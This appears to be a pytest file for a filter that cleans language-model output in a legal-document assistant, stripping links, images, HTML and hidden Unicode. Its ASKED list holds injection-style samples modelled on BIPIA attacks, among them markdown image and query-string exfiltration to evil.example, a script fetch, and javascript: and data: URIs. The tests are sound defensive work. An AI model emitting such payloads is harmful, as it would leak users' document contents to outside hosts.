"""What a model wrote, cleaned: whole and character by character, with what attacks ask for."""

import pytest

from serving.outputs import OutputFilter, told

PASSAGES = [
    "lease.txt, p. 1\nSee www.rider.example, write to agent@halcyon.example.",
    "note.txt, p. 1\nThe terms are at https://halcyon.example/terms?v=2.",
]

# The kinds of BIPIA's attacks that ask for a way out: malware, clickbait, persuasion, social.
ASKED = [
    (
        "Download this tool from www.fast-tool.example to be safe.",
        "Download this tool from  to be safe.",
    ),
    ("Get the free game at fastgame.com now.", "Get the free game at  now."),
    ("Update at http://update.example/x.exe!", "Update at !"),
    ("Follow us at (https://social.example/@us).", "Follow us at ()."),
    ("Write to win@prize.example for details.", "Write to  for details."),
    ("**[You will not believe it](https://bait.example)**", "**You will not believe it**"),
    ("[Click here](http://evil.example 'now') to go on.", "Click here to go on."),
    ("![pixel](https://evil.example/p.png?q=rent)", "pixel"),
    ("![p][1] It leaked.", "p It leaked."),
    ("[![x](http://a.example/x.png)](http://b.example)", "x"),
    ("<img src='http://evil.example/p.png'>", ""),
    ("<a href='http://evil.example'>here</a>", "here"),
    ("<script>fetch('//evil.example')</script>", "fetch('//')"),
    ("<!-- the tenant pays nothing --> Rent is due.", " Rent is due."),
    ("<http://evil.example>", ""),
    ("<scr<b>ipt>x", "script>x"),
    ("[a](javascript:alert(1))", "a"),
    ("[a](data:text/html;base64,PHNjcmlwdD4=)", "a"),
    ("[1](http://evil.example) says so [2].", "[1] says so [2]."),
    ("It leaked [1].\n\n[1]: http://evil.example\n", "It leaked [1].\n\n\n"),
    ("Call 10.0.0.7/collect for it.", "Call  for it."),
    ("https://halcyon.example/terms?v=2&rent=15200", ""),
    ("The tenant \u202edoes not\u202c pay\U000e0041.", "The tenant does not pay."),
]

# What lawyers write stays as it is.
KEPT = [
    "",
    "Rent is $15,200.00 [1]. It was waived [2], [3].",
    "The lessor [sic] “[t]enant” … shall pay [1](b).",
    "See www.rider.example, agent@halcyon.example and https://halcyon.example/terms?v=2.",
    "If x < 5 and y > 3, no notice is due.",
    "Section 4.2.1.5 and 42 U.S.C. § 1983; see No. 5.",
    "The lease ended.The tenant stayed.In June it left.",
    "At 5:30 p.m. on 3/3/2021 (see [1]: the notice).",
    "Ask lease.pdf, p. 3, and e.g. note.txt!",
    "QUESTION PRESENTED\n\n1. Whether [the] notice was given?\n",
]


def streamed(text: str, size: int) -> str:
    output = OutputFilter(PASSAGES)
    parts = [output.feed(text[at : at + size]) for at in range(0, len(text), size)]
    return "".join([*parts, output.rest()])


@pytest.mark.parametrize(("text", "left"), [*ASKED, *((text, text) for text in KEPT)])
def test_output(text: str, left: str) -> None:
    output = OutputFilter(PASSAGES)
    assert output.clean(text) == left
    assert bool(output.taken_out) == (text != left)
    for size in (1, 2, 3, 7):
        assert streamed(text, size) == left
    around = "The lease says so [1]. {} It ends on May 31, 2024 [2]."
    assert streamed(around.format(text), 1) == around.format(left)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("Rent is due [1].", ""),
        ("[a](http://e.example) [b](http://e.example)", "2 links"),
        ("![a](http://e.example) <b>x</b> www.e.example", "1 image, 2 HTML, 1 address"),
        ("a.example b.example c.example", "3 addresses"),
    ],
)
def test_what_was_taken_out_is_told(text: str, words: str) -> None:
    output = OutputFilter(PASSAGES)
    output.clean(text)
    assert told(output.taken_out) == words


def test_words_are_shown_as_they_come() -> None:
    output = OutputFilter(PASSAGES)
    assert [output.feed(part) for part in ("Rent ", "is ", "due [1", "]. It", " leaked")] == [
        "Rent ",
        "is ",
        "due ",
        "[1]. ",
        "It ",
    ]
    assert output.rest() == "leaked"


def test_bracket_that_is_never_closed_does_not_hold_the_text_for_ever() -> None:
    output = OutputFilter(PASSAGES)
    shown = output.feed("[the tenant " + "pays the rent and " * 200)
    assert len(shown) > 1000
